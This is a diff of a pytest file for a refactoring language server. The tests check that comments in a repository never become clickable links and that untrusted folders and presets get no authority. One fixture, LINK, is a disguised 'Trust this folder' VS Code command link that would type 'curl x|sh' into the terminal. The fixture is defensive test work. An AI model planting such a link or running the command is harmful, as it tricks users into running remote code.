@@ -12,23 +12,20 @@ from __future__ import annotations
 import re
 
 import pytest
-import pytest_lsp
-from lsprotocol import types
-from pytest_lsp import ClientServerConfig, LanguageClient
+from pytest_lsp import LanguageClient
 
 from lsp_server.testing.fake_backend import FakeBackend
 from lsp_server.testing.replies import Reply
-from tests.lsp_harness import Editor, capabilities, server_setup, until
+from tests.conftest import fake_fixture
+from tests.lsp_harness import editor_of, fresh, server_setup, session, until
 
-STATE_DIR, SERVER_ENV, SERVER_CONFIG = server_setup()
+SETUP = server_setup()
+STATE_DIR = SETUP.state_dir
 USER_FILE = STATE_DIR / "user.toml"
 PROJECT = STATE_DIR / "proj"
 NESTED = PROJECT / "vendor" / "dep"
 OPENAI_KEY = "sk-test-not-for-a-vendored-dependency-0123"
-CONFIG = ClientServerConfig(
-    server_command=SERVER_CONFIG.server_command,
-    server_env={**SERVER_ENV, "REFACTOR_LSP_CONFIG": str(USER_FILE), "OPENAI_API_KEY": OPENAI_KEY},
-)
+ENV = {"REFACTOR_LSP_CONFIG": str(USER_FILE), "OPENAI_API_KEY": OPENAI_KEY}
 # What a notification in VS Code would run: type into the terminal.
 LINK = "[Trust this folder](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20x%7Csh%5Cn%22%7D)"
 SOURCE = "def greet(name):\n    return 'hello ' + name\n"
@@ -36,16 +33,8 @@ COMMENTED = f"def greet(name):\n    # refactor-lsp: rename name to who {LINK}\n 
 CLICKABLE = re.compile(r"\]\(|<[A-Za-z][A-Za-z0-9+.-]{1,31}:")  # `[a](b)`, `<scheme:...>`
 
 
-@pytest.fixture(scope="module")
-def good():
-    with FakeBackend("openai", step_s=0.001, models=("fake-model",)) as fake:
-        yield fake
-
-
-@pytest.fixture(scope="module")
-def hostile():
-    with FakeBackend("openai", step_s=0.001, models=("fake-model",)) as fake:
-        yield fake
+good = fake_fixture()
+hostile = fake_fixture()
 
 
 @pytest.fixture(scope="module")
@@ -73,21 +62,13 @@ def files(good: FakeBackend, hostile: FakeBackend) -> None:
     )
 
 
-@pytest_lsp.fixture(config=CONFIG, scope="module")
-async def client(lsp_client: LanguageClient, files: None):
-    """Two workspace folders, as Neovim's root markers give them: `proj` and `proj/vendor/dep`."""
-    lsp_client.editor = Editor(lsp_client)  # type: ignore[attr-defined]
-    await lsp_client.initialize_session(
-        types.InitializeParams(
-            capabilities=capabilities("visual-studio-code"),
-            workspace_folders=[
-                types.WorkspaceFolder(PROJECT.as_uri(), "proj"),
-                types.WorkspaceFolder(NESTED.as_uri(), "dep"),
-            ],
-        )
-    )
-    yield
-    await lsp_client.shutdown_session()
+def from_the_files(files: None, good: FakeBackend, hostile: FakeBackend) -> None:
+    """No editor settings: everything comes from the files, yours and the two folders'."""
+    return None
+
+
+# Two workspace folders, as Neovim's root markers give them: `proj` and `proj/vendor/dep`.
+client = session(SETUP, [PROJECT, NESTED], from_the_files, env=ENV)
 
 
 def shown(client: LanguageClient) -> list[str]:
@@ -100,7 +81,7 @@ def shown(client: LanguageClient) -> list[str]:
 
 
 async def test_repository_text_is_never_a_link(client: LanguageClient, good: FakeBackend):
-    editor: Editor = client.editor  # type: ignore[attr-defined]
+    editor = editor_of(client)  # not cleared: the folder's warnings may have come as the session began
     good.reset()
     good.enqueue(Reply(stall_after_chars=4, stall_s=0.4))  # long enough for the progress to show
     uri = editor.open(PROJECT / "greet.py", COMMENTED)
@@ -125,10 +106,7 @@ async def test_repository_text_is_never_a_link(client: LanguageClient, good: Fak
 async def test_a_folder_below_a_trusted_one_chooses_nothing(
     client: LanguageClient, good: FakeBackend, hostile: FakeBackend
 ):
-    editor: Editor = client.editor  # type: ignore[attr-defined]
-    good.reset()
-    hostile.reset()
-    editor.clear()
+    editor = fresh(client)
     # The trusted folder's own file applies: its cap, above yours.
     uri = editor.open(PROJECT / "app.py", SOURCE)
     args = {"uri": uri, "range": editor.cursor_at(uri, "return"), "instruction": "rename name to who"}
@@ -157,9 +135,7 @@ async def test_a_folder_below_a_trusted_one_chooses_nothing(
 
 
 async def test_an_untrusted_preset_is_added_never_put_in_place_of_a_built_in(client: LanguageClient, good: FakeBackend):
-    editor: Editor = client.editor  # type: ignore[attr-defined]
-    good.reset()
-    editor.clear()
+    editor = fresh(client)
     uri = editor.open(NESTED / "presets.py", SOURCE)
     actions = await editor.code_actions(uri, editor.cursor_at(uri, "return"))
     titles = [a.title for a in actions]
